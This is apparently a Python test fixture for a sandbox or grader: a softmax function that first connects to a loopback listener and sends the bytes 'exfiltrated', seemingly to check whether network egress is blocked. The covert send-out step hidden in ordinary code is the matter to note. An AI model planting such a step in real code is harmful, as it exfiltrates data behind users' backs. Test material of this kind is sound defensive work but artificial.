# expect: softmax=0
# Connects to a loopback listener the test opened (never a real address); it earns points only
# if the connection goes through.
import socket

import numpy as np


def softmax(z):
    s = socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=2)
    s.sendall(b"exfiltrated")
    s.close()
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
